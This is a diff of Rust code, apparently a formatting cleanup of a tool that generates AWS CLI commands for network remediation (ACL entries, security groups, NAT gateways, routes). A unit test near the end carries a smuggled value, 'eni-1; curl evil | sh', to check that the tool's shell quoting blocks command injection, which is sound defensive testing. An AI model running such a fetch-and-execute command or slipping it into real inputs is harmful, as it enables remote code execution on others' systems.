@@ -53,11 +53,7 @@ impl Remedy {
     /// A remedy of changes, with the words for those that no command makes.
     pub fn of(changes: Vec<Change>, advice: String) -> Self {
         let commands = changes.iter().flat_map(Change::commands).collect();
-        Self {
-            advice,
-            commands,
-            changes,
-        }
+        Self { advice, commands, changes }
     }
 }
 
@@ -188,14 +184,7 @@ impl Change {
             | Self::SetSslMode { endpoint: None, .. } => Vec::new(),
             Self::Dms(change) => change.commands(),
             Self::Place(change) => change.commands(),
-            Self::AddAclEntry {
-                region,
-                acl,
-                egress,
-                number,
-                peer,
-                ports,
-            } => vec![format!(
+            Self::AddAclEntry { region, acl, egress, number, peer, ports } => vec![format!(
                 "aws ec2 create-network-acl-entry --region {region} --network-acl-id {acl} {} \
                  --rule-number {number} --protocol tcp --port-range From={},To={} \
                  --cidr-block {peer} --rule-action allow",
@@ -203,21 +192,11 @@ impl Change {
                 ports.0,
                 ports.1
             )],
-            Self::AttachInternetGateway {
-                region,
-                gateway,
-                vpc,
-            } => vec![format!(
+            Self::AttachInternetGateway { region, gateway, vpc } => vec![format!(
                 "aws ec2 attach-internet-gateway --region {region} --internet-gateway-id {gateway} \
                  --vpc-id {vpc}"
             )],
-            Self::AllowInGroup {
-                region,
-                group,
-                egress,
-                peer,
-                port,
-            } => vec![format!(
+            Self::AllowInGroup { region, group, egress, peer, port } => vec![format!(
                 "aws ec2 authorize-security-group-{} --region {region} --group-id {group} \
                  --protocol tcp --port {port} --cidr {peer}",
                 if *egress { "egress" } else { "ingress" }
@@ -226,21 +205,11 @@ impl Change {
                 "aws ec2 modify-network-interface-attribute --region {region} \
                  --network-interface-id {interface} --no-source-dest-check"
             )],
-            Self::ExcludeFromBlockPublicAccess {
-                region,
-                subnet,
-                mode,
-            } => vec![format!(
+            Self::ExcludeFromBlockPublicAccess { region, subnet, mode } => vec![format!(
                 "aws ec2 create-vpc-block-public-access-exclusion --region {region} \
                  --subnet-id {subnet} --internet-gateway-exclusion-mode {mode}"
             )],
-            Self::NewNatGateway {
-                region,
-                subnet,
-                tables,
-                destination,
-                ..
-            } => {
+            Self::NewNatGateway { region, subnet, tables, destination, .. } => {
                 let mut commands = vec![
                     format!(
                         "ALLOCATION=$(aws ec2 allocate-address --region {region} --domain vpc \
@@ -257,37 +226,17 @@ impl Change {
                     ),
                 ];
                 commands.extend(tables.iter().map(|(table, replaces)| {
-                    put_route(
-                        region,
-                        table,
-                        destination,
-                        "--nat-gateway-id",
-                        "\"$NAT\"",
-                        *replaces,
-                    )
+                    put_route(region, table, destination, "--nat-gateway-id", "\"$NAT\"", *replaces)
                 }));
                 commands
             }
-            Self::PutRoute {
-                region,
-                table,
-                destination,
-                target,
-                replaces,
-            } => {
+            Self::PutRoute { region, table, destination, target, replaces } => {
                 let option = match target.split('-').next() {
                     Some("nat") => "--nat-gateway-id",
                     Some("pcx") => "--vpc-peering-connection-id",
                     _ => "--gateway-id",
                 };
-                vec![put_route(
-                    region,
-                    table,
-                    destination,
-                    option,
-                    target,
-                    *replaces,
-                )]
+                vec![put_route(region, table, destination, option, target, *replaces)]
             }
             Self::SetSslMode {
                 region,
@@ -328,51 +277,23 @@ impl Change {
             // These quote their own names.
             Self::Dms(_) | Self::Place(_) => Vec::new(),
             Self::AddAclEntry { region, acl, .. } => vec![region, acl],
-            Self::AttachInternetGateway {
-                region,
-                gateway,
-                vpc,
-            } => vec![region, gateway, vpc],
+            Self::AttachInternetGateway { region, gateway, vpc } => vec![region, gateway, vpc],
             Self::AllowInGroup { region, group, .. } => vec![region, group],
             Self::DisableSourceDestCheck { region, interface } => vec![region, interface],
-            Self::ExcludeFromBlockPublicAccess {
-                region,
-                subnet,
-                mode,
-            } => {
+            Self::ExcludeFromBlockPublicAccess { region, subnet, mode } => {
                 vec![region, subnet, mode]
             }
-            Self::NewNatGateway {
-                region,
-                vpc,
-                subnet,
-                tables,
-                destination,
-            } => tables
+            Self::NewNatGateway { region, vpc, subnet, tables, destination } => tables
                 .iter_mut()
                 .map(|(table, _)| table)
                 .chain([region, vpc, subnet, destination])
                 .collect(),
-            Self::PutRoute {
-                region,
-                table,
-                destination,
-                target,
-                ..
-            } => {
+            Self::PutRoute { region, table, destination, target, .. } => {
                 vec![region, table, destination, target]
             }
-            Self::SetSslMode {
-                region,
-                endpoint,
-                mode,
-                certificate,
-                ..
-            } => [region, mode]
-                .into_iter()
-                .chain(endpoint)
-                .chain(certificate)
-                .collect(),
+            Self::SetSslMode { region, endpoint, mode, certificate, .. } => {
+                [region, mode].into_iter().chain(endpoint).chain(certificate).collect()
+            }
         };
         for name in names {
             *name = shell_word(name);
@@ -386,14 +307,7 @@ impl Change {
             Self::AllowAddresses { host, entries } => allow_addresses(facts, host, entries),
             Self::Dms(change) => change.apply(facts),
             Self::Place(change) => change.apply(facts),
-            Self::AddAclEntry {
-                acl,
-                egress,
-                number,
-                peer,
-                ports,
-                ..
-            } => {
+            Self::AddAclEntry { acl, egress, number, peer, ports, .. } => {
                 let entry = NetworkAclEntry {
                     rule_number: *number,
                     egress: *egress,
@@ -406,9 +320,9 @@ impl Change {
                     rule_action: Some("allow".into()),
                     ..NetworkAclEntry::default()
                 };
-                if let Some(found) = find(&mut facts.inventory.network_acls, |item| {
-                    item.network_acl_id == *acl
-                }) {
+                if let Some(found) =
+                    find(&mut facts.inventory.network_acls, |item| item.network_acl_id == *acl)
+                {
                     found.entries.get_or_insert_default().push(entry);
                 }
             }
@@ -422,25 +336,17 @@ impl Change {
                     }]);
                 }
             }
-            Self::AllowInGroup {
-                group,
-                egress,
-                peer,
-                port,
-                ..
-            } => {
+            Self::AllowInGroup { group, egress, peer, port, .. } => {
                 let rule = IpPermission {
                     ip_protocol: Some("tcp".into()),
                     from_port: Some((*port).into()),
                     to_port: Some((*port).into()),
-                    ip_ranges: vec![IpRange {
-                        cidr_ip: Some(peer.to_string()),
-                    }],
+                    ip_ranges: vec![IpRange { cidr_ip: Some(peer.to_string()) }],
                     ..IpPermission::default()
                 };
-                if let Some(found) = find(&mut facts.inventory.security_groups, |item| {
-                    item.group_id == *group
-                }) {
+                if let Some(found) =
+                    find(&mut facts.inventory.security_groups, |item| item.group_id == *group)
+                {
                     let rules = if *egress {
                         &mut found.ip_permissions_egress
                     } else {
@@ -460,26 +366,16 @@ impl Change {
                 cluster(facts, host).public_endpoint_enabled = Some(Fact::Known(true));
             }
             Self::ExcludeFromBlockPublicAccess { subnet, mode, .. } => {
-                if let Some(found) = find(&mut facts.inventory.subnets, |item| {
-                    item.subnet_id == *subnet
-                }) {
-                    let left = if mode == "allow-egress" {
-                        "block-ingress"
-                    } else {
-                        "off"
-                    };
+                if let Some(found) =
+                    find(&mut facts.inventory.subnets, |item| item.subnet_id == *subnet)
+                {
+                    let left = if mode == "allow-egress" { "block-ingress" } else { "off" };
                     found.block_public_access_states = Some(BlockPublicAccessStates {
                         internet_gateway_block_mode: Some(left.into()),
                     });
                 }
             }
-            Self::NewNatGateway {
-                vpc,
-                subnet,
-                tables,
-                destination,
-                ..
-            } => {
+            Self::NewNatGateway { vpc, subnet, tables, destination, .. } => {
                 let id = "nat-to-be-made";
                 facts.inventory.nat_gateways.items.push(NatGateway {
                     nat_gateway_id: id.into(),
@@ -494,20 +390,15 @@ impl Change {
                     route(facts, table, destination, id);
                 }
             }
-            Self::PutRoute {
-                table,
-                destination,
-                target,
-                ..
-            } => {
+            Self::PutRoute { table, destination, target, .. } => {
                 route(facts, table, destination, target);
             }
             Self::SetSslMode { endpoint, mode, .. } => match endpoint {
                 Some(arn) => {
                     facts.asked.ssl_mode = None;
-                    if let Some(found) = find(&mut facts.inventory.endpoints, |item| {
-                        item.endpoint_arn == *arn
-                    }) {
+                    if let Some(found) =
+                        find(&mut facts.inventory.endpoints, |item| item.endpoint_arn == *arn)
+                    {
                         found.ssl_mode = Some(mode.clone());
                     }
                 }
@@ -538,11 +429,7 @@ fn put_route(
     format!(
         "aws ec2 {} --region {region} --route-table-id {table} \
          --destination-cidr-block {destination} {option} {target}",
-        if replaces {
-            "replace-route"
-        } else {
-            "create-route"
-        }
+        if replaces { "replace-route" } else { "create-route" }
     )
 }
 
@@ -551,17 +438,10 @@ fn find<T>(list: &mut List<T>, wanted: impl Fn(&T) -> bool) -> Option<&mut T> {
 }
 
 fn cluster<'a>(facts: &'a mut Facts, host: &str) -> &'a mut Cluster {
-    let place = match facts
-        .clusters
-        .iter()
-        .position(|cluster| cluster.host == host)
-    {
+    let place = match facts.clusters.iter().position(|cluster| cluster.host == host) {
         Some(place) => place,
         None => {
-            facts.clusters.push(Cluster {
-                host: host.to_owned(),
-                ..Cluster::default()
-            });
+            facts.clusters.push(Cluster { host: host.to_owned(), ..Cluster::default() });
             facts.clusters.len() - 1
         }
     };
@@ -577,9 +457,8 @@ fn allow_addresses(facts: &mut Facts, host: &str, entries: &[AccessEntry]) {
 }
 
 fn route(facts: &mut Facts, table: &str, destination: &str, target: &str) {
-    let Some(found) = find(&mut facts.inventory.route_tables, |item| {
-        item.route_table_id == table
-    }) else {
+    let Some(found) = find(&mut facts.inventory.route_tables, |item| item.route_table_id == table)
+    else {
         return;
     };
     let mut route = Route {
@@ -610,9 +489,6 @@ mod tests {
             interface: "eni-1; curl evil | sh '".into(),
         };
         let commands = change.commands();
-        assert!(
-            commands[0].contains(r"'eni-1; curl evil | sh '\'''"),
-            "{commands:?}"
-        );
+        assert!(commands[0].contains(r"'eni-1; curl evil | sh '\'''"), "{commands:?}");
     }
 }
